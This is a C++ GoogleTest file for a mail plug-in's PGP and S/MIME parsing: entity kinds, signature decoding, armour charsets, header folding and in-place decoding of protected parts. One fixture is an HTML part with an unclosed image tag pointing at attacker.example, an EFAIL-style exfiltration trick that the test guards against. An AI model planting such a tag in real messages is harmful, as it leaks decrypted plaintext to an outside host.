// Splitting received protected entities: the kinds, what the PGPsdk gets to see, the decoded
// S/MIME signature, the armour charset, and the MIME helpers on their own edge cases.
#include "engine/PSMimeParts.h"
#include "engine/PSMimeTools.h"

#include "foundation/Base64.h"

#include <gtest/gtest.h>

namespace {

struct Split {
    int kind;
    std::string header, body, charset, signature;
};

Split SplitOf(const std::string& entity, bool headerOnly = false)
{
    Split s;
    s.kind = SplitSecureMime(entity, s.header, s.body, headerOnly, s.charset, s.signature);
    return s;
}

const std::string kArmor = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n-----END PGP MESSAGE-----\r\n";

TEST(SplitSecureMime, KindsByContentType)
{
    struct Case { const char* name; std::string contentType; int kind; };
    const Case cases[] = {
        { "plain", "text/plain", kSecureMimeNone },
        { "pgp encrypted", "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b", kSecureMimePgp },
        { "pgp keys", "application/pgp-keys", kSecureMimePgp },
        { "smime signed-data", "application/pkcs7-mime; smime-type=signed-data; name=a.p7m", kSecureMimeSignedData },
        { "smime certs-only", "application/pkcs7-mime; smime-type=certs-only", kSecureMimeSignedData },
        { "smime enveloped", "application/pkcs7-mime; smime-type=enveloped-data", kSecureMimeEnveloped },
        { "smime without type", "application/x-pkcs7-mime; name=smime.p7m", kSecureMimeEnveloped },
        { "smime multipart/signed", "multipart/signed; protocol=\"application/x-pkcs7-signature\"; boundary=b",
            kSecureMimeSigned },
    };
    for (const Case& c : cases) {
        EXPECT_EQ(SplitOf("Subject: x\r\nContent-Type: " + c.contentType + "\r\n\r\nbody\r\n").kind, c.kind) << c.name;
        EXPECT_EQ(SplitOf("Content-Type: " + c.contentType + "\r\n\r\nbody\r\n", true).kind, c.kind) << c.name;
    }
}

TEST(SplitSecureMime, PgpEncryptedGivesTheArmourAndDropsMimeFields)
{
    const Split s = SplitOf("Subject: hi\r\nContent-Type: multipart/encrypted;\r\n protocol=\"application/pgp-encrypted\";"
                        " boundary=\"B\"\r\nContent-Transfer-Encoding: 7bit\r\n\r\n\r\n--B\r\nContent-Type: application/"
                        "pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--B\r\nContent-Type: application/octet-stream\r\n\r\n"
                        + kArmor + "\r\n--B--\r\n");
    EXPECT_EQ(s.kind, kSecureMimePgp);
    EXPECT_EQ(s.header, "Subject: hi\r\n");
    EXPECT_EQ(s.body, kArmor + "\r\n");

    // Gateways send the encrypted part Base64: the armour is found in its decoded body.
    const Split b = SplitOf(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=B\r\n\r\n"
        "--B\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--B\r\n"
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + Base64Encode(kArmor) + "\r\n--B--\r\n");
    EXPECT_EQ(b.kind, kSecureMimePgp);
    EXPECT_EQ(b.body, kArmor);
}

TEST(SplitSecureMime, PgpSignedKeepsTheWholeEntityForVerification)
{
    const std::string type = "multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; "
                             "boundary=\"PGPMime-=-=-Boundary-=-=-0123ABCD\"";
    const Split s = SplitOf("Content-Type: " + type + "\r\nX-A: 1\r\n\r\n--PGPMime\r\n");
    EXPECT_EQ(s.kind, kSecureMimePgp);
    EXPECT_EQ(s.header, "X-A: 1\r\n");
    EXPECT_EQ(s.body, FoldHeaderLine("Content-Type: " + type) + "\r\n\r\n--PGPMime\r\n");
    EXPECT_NE(s.body.find(";\r\n "), std::string::npos);
}

TEST(SplitSecureMime, SMimeSignedGivesFirstPartAndDecodedSignature)
{
    const std::string signature("\x30\x82\x01\x00sig", 7);
    const std::string content = "Content-Type: text/plain\r\n\r\nsigned text";
    std::string boundary, entity;
    std::size_t length = 0;
    BuildSMimeBody(content, &signature, boundary, entity, false, false, 3, length);
    const Split s = SplitOf(entity);
    EXPECT_EQ(s.kind, kSecureMimeSigned);
    EXPECT_EQ(s.body, content);
    EXPECT_EQ(s.signature, signature);
    EXPECT_EQ(s.header, "Mime-Version: 1.0\r\n");
}

TEST(SplitSecureMime, SMimeEnvelopedIsDecoded)
{
    const std::string der("\x30\x80\x06\x09\x2A\x86", 6);
    std::string boundary, entity;
    std::size_t length = 0;
    BuildSMimeBody(der, nullptr, boundary, entity, true, true, 0, length);
    const Split s = SplitOf(entity);
    EXPECT_EQ(s.kind, kSecureMimeEnveloped);
    EXPECT_EQ(s.body, der);
    EXPECT_EQ(s.header, "");
}

TEST(SplitSecureMime, InlineArmourCharsetAndHeaderOnlyEntities)
{
    EXPECT_EQ(SplitOf("Subject: x\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nVersion: 1\r\ncharset:  utf-8\r\n\r\nhQ==\r\n")
                  .charset,
        "UTF-8");
    const std::string clear = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA1\r\n\r\nCharset: no\r\n"
                              "-----BEGIN PGP SIGNATURE-----\r\nCharset: KOI8-R\r\n\r\niQ==\r\n";
    EXPECT_EQ(SplitOf("X: y\r\n\r\n" + clear).charset, "KOI8-R");
    const Split all = SplitOf("Subject: no blank line");
    EXPECT_EQ(all.header, "Subject: no blank line\r\n");
    EXPECT_EQ(all.body, "");
    EXPECT_EQ(all.kind, kSecureMimeNone);
}

TEST(MimeHelpers, FieldValuesSubtypesAndBoundaries)
{
    const std::string header = "X-Content-Type: no\r\ncontent-type: multipart/signed;\r\n\tboundary=\"a b\"; x=1\r\n"
                               "Subject: s\r\n";
    EXPECT_EQ(HeaderFieldValue(header, "Content-Type:"), "multipart/signed;\tboundary=\"a b\"; x=1");
    EXPECT_EQ(HeaderFieldValue(header, "Missing:"), "");
    EXPECT_EQ(ApplicationSubtype("multipart/signed; protocol=\"application/pgp-signature\""), "pgp-signature");
    EXPECT_EQ(ApplicationSubtype("Application/PGP-keys ; x"), "PGP-keys");
    EXPECT_EQ(ApplicationSubtype("text/plain"), "");
    EXPECT_EQ(BoundaryParameter("multipart/mixed; BOUNDARY= \"a=b\" ; x=y"), "--a=b");
    EXPECT_EQ(BoundaryParameter("multipart/mixed"), "");
    EXPECT_EQ(BoundaryParameter("boundary=x"), ""); // searched from the 11th character on
    EXPECT_EQ(RemoveHeaderFields("A: 1\r\nContent-Type: x;\r\n y\r\nB: 2\r\n", { "content-type:" }), "A: 1\r\nB: 2\r\n");
}

TEST(MimeHelpers, PartsArmourAndFolding)
{
    EXPECT_EQ(FirstMimePart("pre\r\n--B\r\none\r\ntwo\r\n--B\r\nx\r\n--B--\r\n", "--B"), "one\r\ntwo");
    EXPECT_EQ(FirstMimePart("--B\r\nno end", "--B"), "");
    EXPECT_EQ(DecodedPartBody("Content-Transfer-Encoding: BASE64\r\n\r\n" + Base64Encode("raw\x01")), "raw\x01");
    EXPECT_EQ(DecodedPartBody("Content-Type: text/plain\r\n\r\nkept"), "kept");
    EXPECT_EQ(FirstArmoredBlock("x\r\n" + kArmor + "\r\n\0tail"), kArmor + "\r\n");
    EXPECT_EQ(FirstArmoredBlock("no armour -----BEGIN PGP MESSAGE-----"), "");

    const std::string shortLine(76, 'a');
    EXPECT_EQ(FoldHeaderLine(shortLine), shortLine);
    const std::string longLine = "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
                                 "micalg=pgp-sha512; boundary=\"PGPMime-=-=-Boundary-=-=-0123ABCD\"";
    const std::string folded = FoldHeaderLine(longLine);
    std::string unfolded = folded;
    for (size_t at; (at = unfolded.find("\r\n ")) != std::string::npos;)
        unfolded.replace(at, 3, unfolded[at + 3] == ' ' ? "" : " ");
    EXPECT_EQ(unfolded, longLine);
    for (size_t from = 0, end; from < folded.size(); from = end + 2) {
        end = folded.find("\r\n", from);
        if (end == std::string::npos)
            end = folded.size();
        EXPECT_LE(end - from, 76u) << folded;
    }
}

// Protected parts beside plain ones are decoded one by one, each in its own part's place; every
// other byte of the message stays as it came.
TEST(DecodeProtectedParts, EachProtectedPartTakesItsOwnPlace)
{
    const std::string head = "Subject: parts\r\nMIME-Version: 1.0\r\n";
    const std::string pgpMime
        = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
          "boundary=\"in\"\r\n\r\n--in\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
          "Version: 1\r\n\r\n--in\r\nContent-Type: application/octet-stream\r\n\r\n"
        + kArmor + "\r\n--in--\r\n";
    const std::string html = "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/";
    const std::string file = "Content-Type: application/octet-stream; name=\"plan.txt.pgp\"\r\n"
                             "Content-Transfer-Encoding: base64\r\n\r\n"
        + Base64Encode("\x85\x01binary") + "\r\n";
    const std::string inlineText = "Content-Type: text/plain\r\n\r\nHi\r\n\r\n" + kArmor;
    // As this plug-in's inline encryption sends an attachment: its own name, the armour as it is.
    const std::string ownFile = "Content-Type: application/octet-stream; name=\r\n \"data.bin\"\r\n"
                                "Content-Transfer-Encoding: 7BIT\r\n\r\n"
        + kArmor;
    const std::string message = head
        + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\npreamble\r\n--out\r\n" + html
        + "\r\n--out\r\n" + pgpMime + "\r\n--out\r\n" + file + "--out\r\n" + inlineText + "\r\n--out\r\n"
        + ownFile + "\r\n--out--\r\nepilogue\r\n";
    ASSERT_TRUE(HasProtectedParts(message));

    std::vector<std::pair<TPartForm, std::string>> seen;
    const auto decode = [&](TPartForm form, const std::string& content, std::string& result) {
        seen.emplace_back(form, content);
        result = form == TPartForm::Entity ? "Content-Type: text/plain\r\n\r\nsecret entity\r\n"
            : form == TPartForm::File      ? "plain file"
                                           : "Hi\r\nsecret text\r\n";
        return true;
    };
    const TProtectedParts parts = DecodeProtectedParts(message, decode);
    ASSERT_EQ(seen.size(), 4u);
    EXPECT_EQ(seen[0], std::make_pair(TPartForm::Entity, pgpMime));
    EXPECT_EQ(seen[1], std::make_pair(TPartForm::File, std::string("\x85\x01binary")));
    EXPECT_EQ(seen[2], std::make_pair(TPartForm::ArmouredText, "Hi\r\n\r\n" + kArmor));
    EXPECT_EQ(seen[3], std::make_pair(TPartForm::File, kArmor));
    EXPECT_EQ(parts.Protected, 4);
    EXPECT_EQ(parts.Decoded, 4);
    EXPECT_TRUE(parts.PlainContent); // the HTML part
    const std::string attachment = "Content-Type: application/octet-stream; name=\"plan.txt\"\r\n"
                                   "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; "
                                   "filename=\"plan.txt\"\r\n\r\n"
        + Base64Encode("plain file") + "\r\n";
    EXPECT_EQ(parts.Message,
        head + "Content-Type: multipart/mixed; boundary=\"out\"\r\n\r\npreamble\r\n--out\r\n" + html
            + "\r\n--out\r\nContent-Type: text/plain\r\n\r\nsecret entity\r\n\r\n--out\r\n" + attachment
            + "--out\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\nHi\r\nsecret "
              "text\r\n"
            + "\r\n--out\r\nContent-Type: application/octet-stream; "
              "name=\"data.bin\"\r\nContent-Transfer-Encoding: "
              "base64\r\nContent-Disposition: attachment; filename=\"data.bin\"\r\n\r\n"
            + Base64Encode("plain file") + "\r\n--out--\r\nepilogue\r\n");
    ASSERT_EQ(parts.DecodedRanges.size(), 4u);
    EXPECT_EQ(parts.Message.substr(
                  parts.DecodedRanges[0].first, parts.DecodedRanges[0].second - parts.DecodedRanges[0].first),
        "Content-Type: text/plain\r\n\r\nsecret entity\r\n");

    // What the decoder refuses stays as it came.
    const TProtectedParts refused
        = DecodeProtectedParts(message, [](TPartForm, const std::string&, std::string&) { return false; });
    EXPECT_EQ(refused.Message, message);
    EXPECT_EQ(refused.Decoded, 0);
    EXPECT_EQ(refused.Protected, 4);
}

TEST(DecodeProtectedParts, WhichMessagesTakeThePartsWay)
{
    const std::string versionPart = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    const std::string armourPart = "Content-Type: application/octet-stream\r\n\r\n" + kArmor;
    const std::string rewrapped = "Subject: r\r\nContent-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\n"
        + versionPart + "\r\n--r\r\n" + armourPart + "\r\n--r--\r\n";
    const std::string whole
        = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=r\r\n\r\n"
          "--r\r\n"
        + versionPart + "\r\n--r\r\n" + armourPart + "\r\n--r--\r\n";
    const std::string plainMixed
        = "Content-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\n"
          "hello\r\n--r--\r\n";
    const std::string fileAlone
        = "Subject: f\r\nContent-Type: application/octet-stream; name=\"smime.p7m\"\r\n"
          "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\r\n";
    const std::string inlineText = "Subject: i\r\n\r\n" + kArmor;
    const std::string ascKey
        = "Content-Type: multipart/mixed; boundary=r\r\n\r\n--r\r\nContent-Type: application/pgp-keys; "
          "name=\"key.asc\"\r\n\r\n-----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nmQ==\r\n"
          "-----END PGP PUBLIC KEY BLOCK-----\r\n--r--\r\n";
    EXPECT_TRUE(HasProtectedParts(rewrapped));
    EXPECT_TRUE(HasProtectedParts(fileAlone));
    EXPECT_FALSE(HasProtectedParts(whole)); // the whole message is the protected entity
    EXPECT_FALSE(HasProtectedParts(plainMixed));
    EXPECT_FALSE(HasProtectedParts(inlineText));
    EXPECT_FALSE(HasProtectedParts(ascKey));

    // The re-wrapped pair is decoded as the PGP/MIME message it was, in place of the multipart.
    std::string given;
    const TProtectedParts parts = DecodeProtectedParts(
        rewrapped, [&](TPartForm form, const std::string& content, std::string& result) {
            given = content;
            result = "Content-Type: text/plain\r\n\r\nunwrapped\r\n";
            return form == TPartForm::Entity;
        });
    EXPECT_EQ(SplitOf(given).body, kArmor + "\r\n");
    EXPECT_EQ(parts.Message, "Subject: r\r\nContent-Type: text/plain\r\n\r\nunwrapped\r\n");
    EXPECT_FALSE(parts.PlainContent);
}

} // namespace
